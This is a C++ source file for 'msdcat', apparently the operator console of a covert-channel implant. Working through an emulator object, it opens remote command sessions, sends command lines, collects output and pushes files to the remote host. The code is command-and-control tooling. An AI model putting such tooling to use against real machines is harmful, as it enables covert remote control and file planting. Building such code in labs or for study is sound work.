#include "msdcat/console.hpp"

#include "msdcat/error.hpp"
#include "msdcat/payload_host.hpp"

#include <charconv>
#include <fstream>

namespace msdcat {

namespace fs = std::filesystem;

const char* to_string(TransferState state) {
  switch (state) {
    case TransferState::Sending: return "sending";
    case TransferState::Delivered: return "delivered";
    case TransferState::Failed: return "failed";
  }
  return "?";
}

Console::Console(std::shared_ptr<Emulator> emulator, ConsoleConfig config)
    : emulator_(std::move(emulator)), config_(config) {
  pump_ = std::jthread([this](std::stop_token stop) { pump(stop); });
}

Console::~Console() {
  pump_.request_stop();
  for (auto& f : feeders_) {
    f.thread.request_stop();
  }
  pump_ = {};
  feeders_.clear();
}

bool Console::implant_alive() const {
  const auto last = emulator_->last_poll();
  if (!last) {
    return false;
  }
  const auto window = emulator_->config().poll_interval * config_.liveness_polls;
  return Clock::now() - *last <= window;
}

std::uint16_t Console::allocate_id() { return next_id_++; }

void Console::touch() {
  ++version_;
  changed_.notify_all();
}

Console::SessionRecord& Console::record(std::uint16_t session_id) {
  const auto it = sessions_.find(session_id);
  if (it == sessions_.end()) {
    throw Error(ErrorCode::UnknownSession, "session " + std::to_string(session_id));
  }
  return it->second;
}

const Console::SessionRecord& Console::record(std::uint16_t session_id) const {
  const auto it = sessions_.find(session_id);
  if (it == sessions_.end()) {
    throw Error(ErrorCode::UnknownSession, "session " + std::to_string(session_id));
  }
  return it->second;
}

std::uint16_t Console::open_session(const std::string& payload_spec) {
  if (!implant_alive()) {
    throw Error(ErrorCode::NoImplant, "no covert poll within the liveness window");
  }
  if (payload_spec.size() > Datagram::kMaxPayload) {
    throw Error(ErrorCode::OversizedPayload, "payload spec too long");
  }
  std::lock_guard lock(mu_);
  const std::uint16_t id = next_id_;
  SessionRecord rec;
  rec.view.session_id = id;
  rec.view.payload_spec = payload_spec;
  emulator_->enqueue_command(
      Datagram::make(DatagramType::Open, id, rec.next_seq_out, payload_spec));
  ++rec.next_seq_out;
  allocate_id();
  sessions_.emplace(id, std::move(rec));
  touch();
  return id;
}

void Console::exec(std::uint16_t session_id, const std::string& line) {
  send_input(session_id, as_bytes(line + "\n"));
}

void Console::send_input(std::uint16_t session_id, std::span<const std::uint8_t> bytes) {
  std::lock_guard lock(mu_);
  auto& rec = record(session_id);
  if (rec.view.state == SessionState::Closed) {
    throw Error(ErrorCode::SessionClosed, "session " + std::to_string(session_id));
  }
  auto seq = rec.next_seq_out;
  const auto datagrams = chunk_payload(DatagramType::Data, session_id, seq, bytes);
  if (emulator_->queue_depth() + datagrams.size() > Emulator::kQueueBound) {
    throw Error(ErrorCode::QueueFull, "outbound queue cannot take the input");
  }
  for (const auto& d : datagrams) {
    emulator_->enqueue_command(d);
  }
  rec.next_seq_out = seq;
  rec.view.bytes_in += bytes.size();
  touch();
}

void Console::close_session(std::uint16_t session_id) {
  std::lock_guard lock(mu_);
  auto& rec = record(session_id);
  if (rec.view.state == SessionState::Closed) {
    throw Error(ErrorCode::SessionClosed, "session " + std::to_string(session_id));
  }
  emulator_->enqueue_command(Datagram::make(DatagramType::Close, session_id, rec.next_seq_out));
  ++rec.next_seq_out;
  touch();
}

OutputSlice Console::read_output(std::uint16_t session_id, std::uint64_t since) const {
  std::lock_guard lock(mu_);
  const auto& rec = record(session_id);
  OutputSlice out;
  out.base_offset = rec.base_offset;
  out.next_offset = rec.base_offset + rec.ring.size();
  const std::uint64_t from = std::clamp(since, rec.base_offset, out.next_offset);
  out.bytes.assign(rec.ring.begin() + static_cast<std::ptrdiff_t>(from - rec.base_offset),
                   rec.ring.end());
  return out;
}

bool Console::wait_output(std::uint16_t session_id, std::uint64_t since, Duration timeout) const {
  std::unique_lock lock(mu_);
  return changed_.wait_for(lock, timeout, [&] {
    const auto& rec = record(session_id);
    return rec.base_offset + rec.ring.size() > since || rec.view.state == SessionState::Closed;
  });
}

SessionState Console::wait_state_change(std::uint16_t session_id, Duration timeout) const {
  std::unique_lock lock(mu_);
  changed_.wait_for(lock, timeout,
                    [&] { return record(session_id).view.state != SessionState::Opening; });
  return record(session_id).view.state;
}

TransferReport Console::push_file(const fs::path& local_path, const std::string& remote_name) {
  std::error_code ec;
  if (!fs::is_regular_file(local_path, ec)) {
    throw Error(ErrorCode::FileNotFound, local_path.string());
  }
  const auto size = fs::file_size(local_path, ec);
  if (ec) {
    throw Error(ErrorCode::FileNotFound, local_path.string());
  }
  if (size > config_.max_file_bytes) {
    throw Error(ErrorCode::TooLarge, std::to_string(size) + " bytes exceeds the cap");
  }
  std::ifstream in(local_path, std::ios::binary);
  if (!in) {
    throw Error(ErrorCode::FileNotFound, local_path.string());
  }
  std::vector<std::uint8_t> bytes(size);
  in.read(reinterpret_cast<char*>(bytes.data()), static_cast<std::streamsize>(size));
  return push_bytes(remote_name.empty() ? local_path.filename().string() : remote_name,
                    std::move(bytes));
}

TransferReport Console::push_bytes(const std::string& remote_name,
                                   std::vector<std::uint8_t> bytes) {
  if (bytes.size() > config_.max_file_bytes) {
    throw Error(ErrorCode::TooLarge, std::to_string(bytes.size()) + " bytes exceeds the cap");
  }
  if (remote_name.size() + 8 > Datagram::kMaxPayload) {
    throw Error(ErrorCode::PathRejected, "remote name too long");
  }
  checked_drop_path("/", remote_name);

  TransferReport report;
  report.remote_name = remote_name;
  report.bytes = bytes.size();
  report.chunks = (bytes.size() + Datagram::kMaxPayload - 1) / Datagram::kMaxPayload;
  report.crc32 = crc32(bytes);
  {
    std::lock_guard lock(mu_);
    report.transfer_id = allocate_id();
    transfers_[report.transfer_id] = TransferStatus{report, TransferState::Sending, {}, {}, {}};
    touch();
    std::erase_if(feeders_, [](const Feeder& f) { return f.done->load(); });
    auto done = std::make_shared<std::atomic<bool>>(false);
    feeders_.push_back(Feeder{
        done, std::jthread([this, report, done, data = std::move(bytes)](
                               std::stop_token stop) mutable {
          feed_transfer(stop, report, std::move(data));
          done->store(true);
        })});
  }
  return report;
}

void Console::feed_transfer(std::stop_token stop, TransferReport report,
                            std::vector<std::uint8_t> bytes) {
  auto push = [&](Datagram d) {
    while (!stop.stop_requested()) {
      if (emulator_->enqueue_when_below(d, config_.file_high_water, 100ms)) {
        return true;
      }
    }
    return false;
  };
  std::uint16_t seq = 0;
  if (!push(make_file_begin(report.transfer_id, report.bytes, report.remote_name))) {
    return;
  }
  ++seq;
  const std::span<const std::uint8_t> all(bytes);
  for (std::size_t off = 0; off < all.size(); off += Datagram::kMaxPayload) {
    const auto n = std::min(Datagram::kMaxPayload, all.size() - off);
    if (!push(Datagram::make(DatagramType::FileChunk, report.transfer_id, seq++,
                             all.subspan(off, n)))) {
      return;
    }
  }
  push(make_file_end(report.transfer_id, seq, report.crc32));
}

TransferStatus Console::transfer_status(std::uint16_t transfer_id) const {
  std::lock_guard lock(mu_);
  const auto it = transfers_.find(transfer_id);
  if (it == transfers_.end()) {
    throw Error(ErrorCode::UnknownSession, "transfer " + std::to_string(transfer_id));
  }
  return it->second;
}

std::optional<TransferStatus> Console::wait_transfer(std::uint16_t transfer_id,
                                                     Duration timeout) const {
  std::unique_lock lock(mu_);
  const bool done = changed_.wait_for(lock, timeout, [&] {
    const auto it = transfers_.find(transfer_id);
    return it == transfers_.end() || it->second.state != TransferState::Sending;
  });
  const auto it = transfers_.find(transfer_id);
  if (!done || it == transfers_.end()) {
    return std::nullopt;
  }
  return it->second;
}

ChannelStats Console::stats() const { return emulator_->stats(); }

std::vector<SessionView> Console::sessions() const {
  std::lock_guard lock(mu_);
  std::vector<SessionView> out;
  for (const auto& [id, rec] : sessions_) {
    out.push_back(rec.view);
    out.back().output_offset = rec.base_offset + rec.ring.size();
  }
  return out;
}

SessionView Console::session(std::uint16_t session_id) const {
  std::lock_guard lock(mu_);
  const auto& rec = record(session_id);
  auto view = rec.view;
  view.output_offset = rec.base_offset + rec.ring.size();
  return view;
}

std::uint64_t Console::version() const {
  std::lock_guard lock(mu_);
  return version_;
}

std::uint64_t Console::wait_version(std::uint64_t seen, Duration timeout) const {
  std::unique_lock lock(mu_);
  changed_.wait_for(lock, timeout, [&] { return version_ != seen; });
  return version_;
}

void Console::pump(std::stop_token stop) {
  while (!stop.stop_requested()) {
    const auto arrived = emulator_->wait_results(100ms);
    if (arrived.empty()) {
      continue;
    }
    std::lock_guard lock(mu_);
    for (const auto& d : arrived) {
      route(d);
    }
    touch();
  }
}

namespace {

std::optional<int> parse_exit(std::string_view text) {
  constexpr std::string_view kPrefix = "exit ";
  if (!text.starts_with(kPrefix)) {
    return std::nullopt;
  }
  text.remove_prefix(kPrefix.size());
  int value = 0;
  const auto [ptr, ec] = std::from_chars(text.data(), text.data() + text.size(), value);
  if (ec != std::errc{}) {
    return std::nullopt;
  }
  return value;
}

}  // namespace

void Console::route(const Datagram& d) {
  if (const auto t = transfers_.find(d.session_id); t != transfers_.end()) {
    auto& status = t->second;
    if (d.type == DatagramType::FileEnd && d.payload.size() == 12) {
      std::uint32_t crc = 0;
      std::uint64_t size = 0;
      for (int i = 0; i < 4; ++i) crc = (crc << 8) | d.payload[static_cast<std::size_t>(i)];
      for (int i = 4; i < 12; ++i) size = (size << 8) | d.payload[static_cast<std::size_t>(i)];
      status.remote_crc32 = crc;
      status.remote_bytes = size;
      status.state =
          crc == status.report.crc32 ? TransferState::Delivered : TransferState::Failed;
    } else if (d.type == DatagramType::Error) {
      status.state = TransferState::Failed;
      status.error = std::string(d.text());
    }
    return;
  }
  const auto it = sessions_.find(d.session_id);
  if (it == sessions_.end()) {
    return;
  }
  auto& rec = it->second;
  if (d.seq != rec.expected_seq_in) {
    rec.view.last_error = "sequence gap: expected " + std::to_string(rec.expected_seq_in) +
                          ", got " + std::to_string(d.seq);
  }
  rec.expected_seq_in = static_cast<std::uint16_t>(d.seq + 1);
  switch (d.type) {
    case DatagramType::Open:
      if (rec.view.state == SessionState::Opening) {
        rec.view.state = SessionState::Active;
      }
      break;
    case DatagramType::Data:
      rec.ring.insert(rec.ring.end(), d.payload.begin(), d.payload.end());
      rec.view.bytes_out += d.payload.size();
      while (rec.ring.size() > config_.ring_bytes) {
        const auto excess = rec.ring.size() - config_.ring_bytes;
        rec.ring.erase(rec.ring.begin(), rec.ring.begin() + static_cast<std::ptrdiff_t>(excess));
        rec.base_offset += excess;
      }
      break;
    case DatagramType::Close:
      rec.view.state = SessionState::Closed;
      rec.view.exit_status = parse_exit(d.text());
      break;
    case DatagramType::Error:
      rec.view.last_error = std::string(d.text());
      if (rec.view.state == SessionState::Opening) {
        rec.view.state = SessionState::Closed;
      }
      break;
    default:
      break;
  }
}

}  // namespace msdcat
